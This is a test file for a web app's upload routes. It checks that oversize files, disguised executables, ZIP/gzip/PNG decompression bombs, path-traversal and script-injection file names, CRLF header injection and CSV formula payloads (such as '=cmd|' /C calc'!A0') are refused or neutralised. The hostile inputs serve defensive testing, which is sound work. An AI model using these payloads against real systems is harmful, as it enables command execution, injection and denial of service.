// Hostile uploads on every multipart route (found from the router, so a new one fails here until it
// is given a row): oversize, wrong type by content, ZIP and gzip bombs that nothing may inflate,
// images whose headers claim absurd sizes, hostile file names, formula cells on every CSV export,
// and CSV text in other encodings. Complements tests/server/jobs/{attachments,hostile-and-races,
// runs-csv}.test.ts and tests/server/estimates/price-list.test.ts, which hold the everyday cases.
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { listRoutes } from "../../../server/routes/route-table.js";
import { EstimateLimits } from "../../../shared/schemas/estimates.js";
import { JobLimits } from "../../../shared/schemas/jobs.js";
import { CSRF_HEADER } from "../../../shared/http.js";
import { signUpCompany, type SignedInOwner } from "../../support/accounts.js";
import type { ApiResponse } from "../../support/api.js";
import { useTestApp } from "../../support/app.js";
import { companySnapshot } from "../../support/fixtures.js";
import { createQuoteWork } from "../../support/quotes.js";
import { createJobWork, exampleSystem, TINY_PDF, TINY_PNG, type JobWork } from "../../support/jobs.js";
import { safeFileName } from "../../../server/services/attachment.service.js";
import { countDecompressions, gzipBomb, jpegClaiming, pngClaiming, pngOf, utf16be, utf16le, zipBomb } from "./hostile-files.js";
import { uploadRoutes } from "./route-walk.js";

type Kind = "attachment" | "logo" | "price csv" | "runs csv";
interface Target {
  kind: Kind;
  maxBytes: number;
  /** The limit as the 413's message says it. */
  limitText: string;
  path: (w: JobWork) => string;
}

// Every multipart route. A new one fails the first test until it has a row here.
const TARGETS: Record<string, Target> = {
  "POST /api/jobs/:jobId/attachments": { kind: "attachment", maxBytes: JobLimits.attachmentMaxBytes, limitText: "10 MB", path: (w) => `/api/jobs/${w.jobId}/attachments` },
  "POST /api/company/logo": { kind: "logo", maxBytes: EstimateLimits.logoMaxBytes, limitText: "512 KB", path: () => "/api/company/logo" },
  "POST /api/price-list/import.csv": { kind: "price csv", maxBytes: EstimateLimits.csvMaxBytes, limitText: "2 MB", path: () => "/api/price-list/import.csv?apply=1" },
  "POST /api/systems/:systemId/runs.csv": { kind: "runs csv", maxBytes: JobLimits.csvMaxBytes, limitText: "2 MB", path: (w) => `/api/systems/${w.systemId}/runs.csv` },
};

const PRICE_HEADER = "sku,description,category,unit,unit_cost";
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script><img src=x onerror="alert(1)"></body></html>\n');
/** A Windows executable's first bytes ("MZ", the DOS stub's message, a PE header offset). */
const EXE = Buffer.concat([Buffer.from("4d5a90000300000004000000ffff0000", "hex"), Buffer.alloc(44), Buffer.from([0x80, 0, 0, 0]), Buffer.from("This program cannot be run in DOS mode.\r\r\n$"), Buffer.alloc(64), Buffer.from("PE\0\0", "latin1"), Buffer.alloc(200)]);

describe("hostile uploads", () => {
  const t = useTestApp();
  let owner: SignedInOwner;
  let work: JobWork;

  beforeAll(async () => {
    owner = await signUpCompany(t.app);
    work = await createJobWork(owner.api);
  });

  const systemVersion = async () => String((await owner.api.get(`/api/systems/${work.systemId}`)).body.version);
  /** One upload to a target, with the fields its route needs. */
  async function send(target: Target, file: { content: Buffer | string; name: string; type?: string }): Promise<ApiResponse> {
    const fields: Record<string, string> = target.kind === "runs csv" ? { version: await systemVersion() } : {};
    return owner.api.upload(target.path(work), file, fields);
  }
  /** Sends, and proves nothing of the company changed. */
  async function refused(target: Target, file: { content: Buffer | string; name: string; type?: string }): Promise<ApiResponse> {
    const before = await companySnapshot(t.db, owner.companyId);
    const response = await send(target, file);
    expect(response.status, `${target.kind} ${file.name}: ${JSON.stringify(response.body)}`).toBeGreaterThanOrEqual(400);
    expect(response.status, `${target.kind} ${file.name}`).toBeLessThan(500);
    expect(typeof response.body.error?.message).toBe("string");
    expect(await companySnapshot(t.db, owner.companyId), `${target.kind} ${file.name} changed something`).toEqual(before);
    return response;
  }

  it("has a row for every multipart route the app mounts, with the route's own limit", () => {
    const found = uploadRoutes(t.app.app);
    expect(found.map((r) => r.key).sort()).toEqual(Object.keys(TARGETS).sort());
    for (const { key, spec } of found) {
      expect(spec.maxBytes, key).toBe(TARGETS[key].maxBytes);
      expect(spec.field, key).toBe("file");
    }
    // The logo is decoded by pdfkit: its upload is checked as an image before the route sees it.
    expect(found.find((r) => r.key === "POST /api/company/logo")?.spec.image).toMatchObject({ decodedHere: true });
  });

  describe("size", () => {
    for (const [key, target] of Object.entries(TARGETS)) {
      it(`${key}: one byte over the limit is 413 naming the field, and nothing is stored`, async () => {
        const response = await refused(target, { content: Buffer.alloc(target.maxBytes + 1, 0x20), name: "big.png", type: "image/png" });
        expect(response.status).toBe(413);
        expect(response.body.error.code).toBe("payload_too_large");
        expect(response.body.error.details).toEqual({ field: "file" });
        expect(response.body.error.message).toMatch(new RegExp(`^file: .*${target.limitText}`));
      });

      it(`${key}: two files or the wrong field are 400 naming the field`, async () => {
        const before = await companySnapshot(t.db, owner.companyId);
        const request = owner.api.agent.post(target.path(work)).set(CSRF_HEADER, "1");
        if (target.kind === "runs csv") request.field("version", await systemVersion());
        const two = await request.attach("file", TINY_PNG, "a.png").attach("file", TINY_PNG, "b.png");
        expect(two.status).toBe(400);
        expect(two.body.error.details.field).toBe("file");
        const wrong = await owner.api.upload(target.path(work), { field: "upload", content: TINY_PNG, name: "a.png" }, target.kind === "runs csv" ? { version: await systemVersion() } : {});
        expect(wrong.status).toBe(400);
        expect(wrong.body.error.details.field).toBe("file");
        expect(await companySnapshot(t.db, owner.companyId)).toEqual(before);
      });
    }

    it("the limit itself is allowed: a 512 KB logo and 2 MB CSVs are read, not refused as too large", async () => {
      // A valid PNG with bytes after its end; CSVs with blank lines after their rows (skipped).
      const logo = Buffer.concat([TINY_PNG, Buffer.alloc(EstimateLimits.logoMaxBytes - TINY_PNG.length)]);
      expect((await send(TARGETS["POST /api/company/logo"], { content: logo, name: "logo.png" })).status).toBe(200);
      // Not kept: every later check compares the company's rows, logo included.
      expect((await owner.api.delete("/api/company/logo")).status).toBe(204);
      const prices = `${PRICE_HEADER}\r\nLIMIT-1,Exactly at the limit,other,each,1.00\r\n`;
      const pricesAtLimit = prices + "\n".repeat(EstimateLimits.csvMaxBytes - Buffer.byteLength(prices));
      expect(Buffer.byteLength(pricesAtLimit)).toBe(EstimateLimits.csvMaxBytes);
      const imported = await send(TARGETS["POST /api/price-list/import.csv"], { content: pricesAtLimit, name: "prices.csv" });
      expect(imported.status, JSON.stringify(imported.body).slice(0, 300)).toBe(200);
      const runs = (await owner.api.get(`/api/systems/${work.systemId}/runs.csv`)).text;
      const runsAtLimit = runs + "\n".repeat(JobLimits.csvMaxBytes - Buffer.byteLength(runs));
      const saved = await send(TARGETS["POST /api/systems/:systemId/runs.csv"], { content: runsAtLimit, name: "runs.csv" });
      expect(saved.status, JSON.stringify(saved.body).slice(0, 300)).toBe(200);
    });
  });

  describe("type by content, never by name or claimed type", () => {
    const EXPECTED: Record<Kind, { status: number; message: RegExp }> = {
      attachment: { status: 415, message: /^file: only JPEG, PNG or PDF/ },
      logo: { status: 415, message: /^file: the logo must be a PNG or JPEG image/ },
      "price csv": { status: 400, message: /^file: / },
      "runs csv": { status: 400, message: /^file: / },
    };
    for (const [key, target] of Object.entries(TARGETS)) {
      it(`${key}: HTML and an executable named .png are refused`, async () => {
        for (const [content, name] of [
          [HTML, "photo.png"],
          [EXE, "photo.png"],
          [EXE, "prices.csv"],
        ] as const) {
          const response = await refused(target, { content, name, type: "image/png" });
          expect(response.status, `${name}`).toBe(EXPECTED[target.kind].status);
          expect(response.body.error.message).toMatch(EXPECTED[target.kind].message);
          expect(response.body.error.details.field).toBe("file");
        }
      });
    }

    it("a PDF claimed as an image is kept as a PDF, named and served as one; as a logo it is refused", async () => {
      const attached = await send(TARGETS["POST /api/jobs/:jobId/attachments"], { content: TINY_PDF, name: "roof photo.png", type: "image/png" });
      expect(attached.status).toBe(201);
      expect(attached.body).toMatchObject({ mediaType: "application/pdf", fileName: "roof photo.png.pdf" });
      const served = await owner.api.get(`${attached.body.url}?download=1`);
      expect(served.headers["content-type"]).toBe("application/pdf");
      expect(served.headers["content-disposition"]).toBe('attachment; filename="roof photo.png.pdf"');
      expect(served.headers["x-content-type-options"]).toBe("nosniff");
      // An image named .pdf is named for what it is, too.
      const png = await send(TARGETS["POST /api/jobs/:jobId/attachments"], { content: TINY_PNG, name: "plan.pdf", type: "application/pdf" });
      expect(png.body).toMatchObject({ mediaType: "image/png", fileName: "plan.pdf.png" });
      const logo = await refused(TARGETS["POST /api/company/logo"], { content: TINY_PDF, name: "logo.png", type: "image/png" });
      expect(logo.status).toBe(415);
    });

    it("a PNG sent as a CSV is refused as binary, naming the line of its first NUL byte", async () => {
      for (const key of ["POST /api/price-list/import.csv", "POST /api/systems/:systemId/runs.csv"]) {
        const response = await refused(TARGETS[key], { content: TINY_PNG, name: "prices.csv", type: "text/csv" });
        expect(response.status).toBe(400);
        // The PNG signature holds CR LF and LF: its IHDR's length (00 00 00 0D) starts on line 3.
        expect(response.body.error.message).toMatch(/^file: line 3: the CSV holds a NUL character/);
      }
    });
  });

  describe("ZIP and gzip bombs: refused, and nothing inflates them", () => {
    let zip: Buffer;
    let gzip: Buffer;
    beforeAll(() => {
      zip = zipBomb(4, 64);
      gzip = gzipBomb(256);
    });

    it("are small files that would inflate to 256 MB each", () => {
      expect(zip.length).toBeLessThan(EstimateLimits.logoMaxBytes);
      expect(gzip.length).toBeLessThan(EstimateLimits.logoMaxBytes);
    });

    const EXPECTED: Record<Kind, { status: number; message: (type: string) => RegExp }> = {
      attachment: { status: 415, message: (type) => new RegExp(`this file is application/${type}`) },
      logo: { status: 415, message: () => /must be a PNG or JPEG/ },
      // Both start with bytes that are never text: gzip's flags byte and ZIP's header fields are 00.
      "price csv": { status: 400, message: () => /^file: line 1: the CSV holds a NUL character/ },
      "runs csv": { status: 400, message: () => /^file: line 1: the CSV holds a NUL character/ },
    };
    for (const [key, target] of Object.entries(TARGETS)) {
      it(`${key}: a ZIP and a gzip bomb (named .png and .csv) are refused without one decompression`, async () => {
        for (const [type, content] of [
          ["zip", zip],
          ["gzip", gzip],
        ] as const) {
          for (const name of ["bomb.png", "bomb.csv"]) {
            const { result, count } = await countDecompressions(() => refused(target, { content, name, type: name.endsWith(".png") ? "image/png" : "text/csv" }));
            expect(result.status, `${type} ${name}`).toBe(EXPECTED[target.kind].status);
            expect(result.body.error.message, `${type} ${name}`).toMatch(EXPECTED[target.kind].message(type));
            expect(count, `decompressions while refusing the ${type} bomb ${name}`).toBe(0);
          }
        }
      });
    }
  });

  describe("images whose headers claim absurd sizes", () => {
    const logo = TARGETS["POST /api/company/logo"];
    const attachment = TARGETS["POST /api/jobs/:jobId/attachments"];

    it("a logo: 100000 × 100000 PNG, 60000 × 60000 JPEG, just over 4096 a side or 4 megapixels → 422 naming the field; nothing stored", async () => {
      expect((await owner.api.delete("/api/company/logo")).status).toBe(204);
      for (const [content, width, height] of [
        [pngClaiming(100_000, 100_000), 100_000, 100_000],
        [jpegClaiming(60_000, 60_000), 60_000, 60_000],
        [pngClaiming(4097, 1), 4097, 1],
        [jpegClaiming(1, 4097), 1, 4097],
        [pngClaiming(2001, 2000), 2001, 2000],
      ] as const) {
        const response = await refused(logo, { content, name: "logo.png", type: "image/png" });
        expect(response.status, `${width} × ${height}`).toBe(422);
        expect(response.body.error.code).toBe("unprocessable");
        expect(response.body.error.details).toMatchObject({ field: "file", width, height });
        expect(response.body.error.message).toMatch(new RegExp(`^file: the logo is ${width} × ${height} pixels`));
      }
      expect((await owner.api.get("/api/company/logo")).status).toBe(404);
      expect((await owner.api.get("/api/company/estimating")).body.hasLogo).toBe(false);
    });

    it("a logo whose PNG pixel data inflates far past its header (a decompression bomb), or is cut short, is refused", async () => {
      // 100 × 100 RGBA is 40,100 bytes of pixel data; this holds 64 MB.
      const bomb = pngClaiming(100, 100, { raw: Buffer.alloc(64 * 1024 * 1024) });
      expect(bomb.length).toBeLessThan(EstimateLimits.logoMaxBytes);
      const inflated = await refused(logo, { content: bomb, name: "logo.png", type: "image/png" });
      expect(inflated.status).toBe(422);
      expect(inflated.body.error.message).toMatch(/^file: the logo's pixel data is damaged or larger than its 100 × 100 pixels/);
      const short = await refused(logo, { content: pngClaiming(100, 100, { raw: Buffer.alloc(5) }), name: "logo.png", type: "image/png" });
      expect(short.status).toBe(422);
      // A JPEG without a frame header has no size to check: refused as a logo (pdfkit could not place it).
      const frameless = await refused(logo, { content: Buffer.from("ffd8ffe000104a46494600010100000100010000ffd9", "hex"), name: "logo.jpg", type: "image/jpeg" });
      expect(frameless.status).toBe(422);
      expect(frameless.body.error.message).toMatch(/could not be read/);
    });

    it("a logo within the limits is stored, and prints on the quote", async () => {
      const jpeg = await send(logo, { content: jpegClaiming(4096, 976), name: "logo.jpg", type: "image/jpeg" });
      expect(jpeg.status, JSON.stringify(jpeg.body)).toBe(200);
      const ok = await send(logo, { content: pngOf(2000, 2000), name: "logo.png", type: "image/png" });
      expect(ok.status, JSON.stringify(ok.body)).toBe(200);
      expect(ok.body.hasLogo).toBe(true);
      const { quoteId } = await createQuoteWork(owner.api, work.jobId, t.app.url);
      const pdf = await owner.api.get(`/api/quotes/${quoteId}/pdf`);
      expect(pdf.status).toBe(200);
      // pdfkit decoded the RGBA logo into an image and its alpha mask, 2000 px wide each.
      expect(Buffer.from(pdf.body).toString("latin1").match(/\/Width 2000\b/g)).toHaveLength(2);
    });

    it("an attachment: 100000 × 100000 PNG, 60000 × 60000 JPEG, 20001 a side, over 150 megapixels → 422; nothing is decoded to find out", async () => {
      for (const [content, width, height] of [
        [pngClaiming(100_000, 100_000), 100_000, 100_000],
        [jpegClaiming(60_000, 60_000), 60_000, 60_000],
        [pngClaiming(20_001, 10), 20_001, 10],
        [pngClaiming(15_000, 10_001), 15_000, 10_001],
      ] as const) {
        const { result, count } = await countDecompressions(() => refused(attachment, { content, name: "site.png", type: "image/png" }));
        expect(result.status, `${width} × ${height}`).toBe(422);
        expect(result.body.error.details).toMatchObject({ field: "file", width, height });
        expect(result.body.error.message).toMatch(new RegExp(`^file: the image is ${width} × ${height} pixels`));
        expect(count, "decompressions").toBe(0);
      }
    });

    it("an attachment at the limit (20000 × 7500, 150 megapixels) is stored as sent, without decoding it", async () => {
      const content = pngClaiming(20_000, 7500);
      const { result, count } = await countDecompressions(() => send(attachment, { content, name: "big plan.png", type: "image/png" }));
      expect(result.status, JSON.stringify(result.body)).toBe(201);
      expect(count).toBe(0);
      const served = await owner.api.get(result.body.url);
      expect(Buffer.compare(served.body as Buffer, content)).toBe(0);
    });
  });

  describe("file names", () => {
    const attachment = TARGETS["POST /api/jobs/:jobId/attachments"];
    /**
     * A multipart body written by hand, so the file name arrives exactly as given: a browser or
     * supertest would drop folders and escape quotes before sending. `filename` goes between the
     * quotes of the part's Content-Disposition as it is.
     */
    const rawUpload = (filename: string, content: Buffer = TINY_PNG) => {
      const boundary = `hostile${Math.random().toString(36).slice(2)}`;
      const body = Buffer.concat([
        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: image/png\r\n\r\n`, "utf8"),
        content,
        Buffer.from(`\r\n--${boundary}--\r\n`),
      ]);
      return owner.api.agent.post(attachment.path(work)).set(CSRF_HEADER, "1").set("Content-Type", `multipart/form-data; boundary=${boundary}`).send(body);
    };

    // As written in the request → what is kept. Every kept name ends in the extension of what the bytes are.
    const NAMES: Array<[string, string]> = [
      ["../../etc/passwd", "passwd.png"],
      ["..\\..\\x", "x.png"],
      ["/etc/shadow.png", "shadow.png"],
      ["C:\\Windows\\System32\\evil.dll", "evil.dll.png"],
      ["invoice\u202Egnp.exe", "invoicegnp.exe.png"],
      ["\u202E\u2066\u200F", "attachment.png"],
      ["photo.html", "photo.html.png"],
      ["run.bat", "run.bat.png"],
      ['\\"><img src=x onerror=alert(1)>.png', "___img src=x onerror=alert(1)_.png"],
      ["<script>alert(1)<!--x-->.png", "_script_alert(1)_!--x--_.png"],
      ["...", "attachment.png"],
      ["PHOTO.PNG", "PHOTO.PNG"],
    ];

    it("are kept without folders, controls, direction overrides or a misleading extension; downloads name them safely", async () => {
      for (const [sent, kept] of NAMES) {
        const response = await rawUpload(sent);
        expect(response.status, `${JSON.stringify(sent)}: ${JSON.stringify(response.body)}`).toBe(201);
        expect(response.body.fileName, JSON.stringify(sent)).toBe(kept);
        for (const url of [response.body.url, `${response.body.url}?download=1`]) {
          const file = await owner.api.get(url);
          const disposition = file.headers["content-disposition"] as string;
          expect(disposition, JSON.stringify(sent)).toMatch(/^(inline|attachment); filename=/);
          // One header, one parameter value: no line breaks, no quote or backslash from the name.
          expect(disposition).not.toMatch(/[\r\n\\]/);
          const plain = /filename="?([^";]*)"?/.exec(disposition)?.[1] ?? "";
          expect(plain).not.toMatch(/[/"]/);
          expect(plain.toLowerCase().endsWith(".png")).toBe(true);
          const encoded = /filename\*=UTF-8''(.+)$/.exec(disposition)?.[1];
          expect(encoded === undefined ? plain : decodeURIComponent(encoded)).toBe(kept);
        }
      }
    });

    it("safeFileName() drops folders and controls even where the multipart parser did not (defence in depth)", () => {
      expect(safeFileName("../../etc/passwd", "image/png")).toBe("passwd.png");
      expect(safeFileName("..\\..\\boot.ini", "application/pdf")).toBe("boot.ini.pdf");
      expect(safeFileName("a\u0000b.jpg", "image/jpeg")).toBe("a_b.jpg");
      expect(safeFileName("site\r\nplan.pdf", "application/pdf")).toBe("site__plan.pdf");
      expect(safeFileName("x\u202Efdp.exe", "application/pdf")).toBe("xfdp.exe.pdf");
      expect(safeFileName("a\tb\u0085c\u007f.png", "image/png")).toBe("a_b_c_.png");
      expect(safeFileName(undefined, "image/jpeg")).toBe("attachment.jpg");
    });

    it("a very long name is cut to 255 characters keeping its extension; a NUL or a line break in the header is refused", async () => {
      const long = await rawUpload(`${"é".repeat(5000)}.png`);
      expect(long.status, JSON.stringify(long.body)).toBe(201);
      expect(Array.from(long.body.fileName as string)).toHaveLength(JobLimits.fileNameMax);
      expect(long.body.fileName).toBe(`${"é".repeat(JobLimits.fileNameMax - 4)}.png`);
      const jpeg = await send(attachment, { content: jpegClaiming(10, 10), name: `${"x".repeat(300)}.jpeg`, type: "image/jpeg" });
      expect(jpeg.body.fileName).toBe(`${"x".repeat(JobLimits.fileNameMax - 4)}.jpg`);
      // A NUL, or CR LF starting a forged header, inside the part's header: the body is malformed
      // (or holds no file), 400 naming the field, nothing stored.
      for (const name of ["x.png\u0000.exe", "a\tb\u0085c\u007f.png", "a.png\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"]) {
        const before = await companySnapshot(t.db, owner.companyId);
        const response = await rawUpload(name);
        expect(response.status, JSON.stringify(name)).toBe(400);
        expect(response.body.error.details.field).toBe("file");
        expect(await companySnapshot(t.db, owner.companyId)).toEqual(before);
      }
    });
  });

  describe("CSV exports neutralise every formula cell", () => {
    const PAYLOADS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.test/?\"&A1)"];

    it("lists the CSV exports the app has: the price list and each system's runs", () => {
      const exports = listRoutes(t.app.app).filter((r) => r.method === "GET" && r.path.endsWith(".csv"));
      expect(exports.map((r) => r.path).sort()).toEqual(["/api/price-list/export.csv", "/api/systems/:systemId/runs.csv"]);
    });

    it("the price list: every formula start in a description is written as text, and comes back exactly", async () => {
      const company = await signUpCompany(t.app);
      for (const [i, description] of PAYLOADS.entries()) {
        const created = await company.api.post("/api/price-list", { sku: `F-${i}`, description, category: "other", unit: "each", unitCostMinor: 100 });
        expect(created.status, JSON.stringify(created.body)).toBe(201);
      }
      // A SKU cannot start with a formula character at all.
      for (const sku of ["=1+1", "+1", "-1", "@A1"]) {
        const refusedSku = await company.api.post("/api/price-list", { sku, description: "x", category: "other", unit: "each", unitCostMinor: 1 });
        expect(refusedSku.status, sku).toBe(400);
        expect(refusedSku.body.error.details.fields).toHaveProperty("sku");
      }
      // Tab and CR starts: leading white space is trimmed on the way in, so none is stored.
      const tab = await company.api.post("/api/price-list", { sku: "TAB", description: "\t=1+1", category: "other", unit: "each", unitCostMinor: 1 });
      expect([tab.status, tab.body.description]).toEqual([201, "=1+1"]);
      const exported = (await company.api.get("/api/price-list/export.csv")).text;
      const rows = Papa.parse<Record<string, string>>(exported, { header: true, skipEmptyLines: true }).data;
      for (const row of rows) expect(row.description, row.sku).toMatch(/^'[=+\-@]/);
      expect(rows.map((r) => r.description.slice(1))).toEqual(expect.arrayContaining([...PAYLOADS, "=1+1"]));
      // No cell anywhere in the file starts a formula.
      for (const row of Papa.parse<string[]>(exported, { skipEmptyLines: true }).data) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
      const fresh = await signUpCompany(t.app);
      expect((await fresh.api.upload("/api/price-list/import.csv?apply=1", { content: exported, name: "p.csv" })).status).toBe(200);
      const back = (await fresh.api.get("/api/price-list")).body.items as Array<{ sku: string; description: string }>;
      expect(back.map((i) => i.description).sort()).toEqual([...PAYLOADS, "=1+1"].sort());
    });

    it("the runs: every name (tab and CR starts too) and a run id are written as text; names and ids come back exactly", async () => {
      const company = await signUpCompany(t.app);
      const client = await company.api.post("/api/clients", { name: "CSV client" });
      const job = await company.api.post("/api/jobs", { clientId: client.body.id, title: "CSV job" });
      const created = await company.api.post(`/api/jobs/${job.body.id}/systems`, { name: "=Formula system", document: exampleSystem("cabin-24v") });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      const systemId = created.body.id as string;
      let { version, document } = created.body as { version: number; document: ReturnType<typeof exampleSystem> };
      const names = [...PAYLOADS, "\t=1+1", "\r=1+1", "'=already quoted"];
      const perRound = document.runs.length;
      expect(perRound).toBeGreaterThanOrEqual(4);
      for (let first = 0; first < names.length; first += perRound) {
        const doc = structuredClone(document);
        doc.runs = doc.runs.map((run, i) => ({ ...run, name: names[(first + i) % names.length] }));
        doc.runs[0].id = first === 0 ? "-A1" : "-B2";
        const saved = await company.api.put(`/api/systems/${systemId}`, { version, document: doc });
        expect(saved.status, JSON.stringify(saved.body)).toBe(200);
        const exported = await company.api.get(`/api/systems/${systemId}/runs.csv`);
        // The file name keeps only safe characters of the system's name.
        expect(exported.headers["content-disposition"]).toBe('attachment; filename="Formula system runs.csv"');
        const rows = Papa.parse<Record<string, string>>(exported.text.slice(1), { header: true, skipEmptyLines: true }).data;
        expect(rows.map((r) => r.name)).toEqual(doc.runs.map((r) => `'${r.name}`));
        for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
        const back = await company.api.upload(`/api/systems/${systemId}/runs.csv`, { content: exported.text, name: "runs.csv" }, { version: String(saved.body.version) });
        expect(back.status, JSON.stringify(back.body)).toBe(200);
        // Import reads every line end as LF, inside quoted cells too: a name's CR comes back as LF
        // (text typed in the editor has no line breaks; the export never runs it as a formula).
        const expected = doc.runs.map((r) => [r.id, (r.name as string).replace(/\r/g, "\n")]);
        expect(back.body.document.runs.map((r: { id: string; name: string }) => [r.id, r.name])).toEqual(expected);
        ({ version, document } = back.body);
      }
      // A file exported again and imported again changes nothing: no apostrophe piles up.
      for (let round = 0; round < 2; round++) {
        const again = (await company.api.get(`/api/systems/${systemId}/runs.csv`)).text;
        const back = await company.api.upload(`/api/systems/${systemId}/runs.csv`, { content: again, name: "runs.csv" }, { version: String(version) });
        expect(back.body.document.runs).toEqual(document.runs);
        ({ version, document } = back.body);
      }
    });
  });

  describe("CSV files in other encodings: a clear 400 naming the problem, nothing imported", () => {
    const PRICES = `${PRICE_HEADER}\r\nENC-1,Cosse à sertir Ω,other,each,1.20\r\n`;
    const CASES: Array<[string, (text: string) => Buffer, RegExp]> = [
      ["latin-1", (text) => Buffer.from(text.replace("Ω", "O"), "latin1"), /^file: line 2: the CSV is not UTF-8 text \(byte 0xE0 is not UTF-8; the file may be Latin-1 or Windows-1252\)/],
      ["UTF-16 LE with its byte-order mark", utf16le, /^file: line 1: the CSV is not UTF-8 text \(it is UTF-16 text\)/],
      ["UTF-16 BE with its byte-order mark", utf16be, /^file: line 1: the CSV is not UTF-8 text \(it is UTF-16 text\)/],
      ["UTF-32 LE with its byte-order mark", (text) => Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), ...Array.from(text).map((c) => { const b = Buffer.alloc(4); b.writeUInt32LE(c.codePointAt(0)!); return b; })]), /it is UTF-32 text/],
      ["UTF-16 LE without a byte-order mark", (text) => Buffer.from(text, "utf16le"), /^file: line 1: the CSV holds a NUL character, which text does not \(is it UTF-16/],
    ];
    for (const [label, encode, message] of CASES) {
      it(`${label}, on both CSV imports`, async () => {
        const runs = (await owner.api.get(`/api/systems/${work.systemId}/runs.csv`)).text.slice(1).replace(/^(id,name,.*\r\n[^,]*,)/, "$1Ω ");
        for (const [key, text] of [
          ["POST /api/price-list/import.csv", PRICES],
          ["POST /api/systems/:systemId/runs.csv", label === "latin-1" ? PRICES : runs],
        ] as const) {
          const response = await refused(TARGETS[key], { content: encode(text), name: "file.csv", type: "text/csv" });
          expect(response.status, key).toBe(400);
          expect(response.body.error.code).toBe("invalid_input");
          expect(response.body.error.message, key).toMatch(message);
          expect(response.body.error.message).toMatch(/; save it from your spreadsheet as "CSV UTF-8"$/);
          expect(response.body.error.details).toMatchObject({ field: "file", rows: [expect.objectContaining({ column: null })] });
        }
      });
    }

    it("a NUL inside UTF-8 text is refused with its line, before anything is parsed or stored", async () => {
      const response = await refused(TARGETS["POST /api/price-list/import.csv"], { content: `${PRICE_HEADER}\r\nOK-1,Fine,other,each,1\r\nNUL-1,Bad\u0000cell,other,each,1\r\n`, name: "p.csv" });
      expect(response.status).toBe(400);
      expect(response.body.error.details.rows).toEqual([{ line: 3, column: null, message: expect.stringMatching(/NUL/) }]);
    });
  });
});
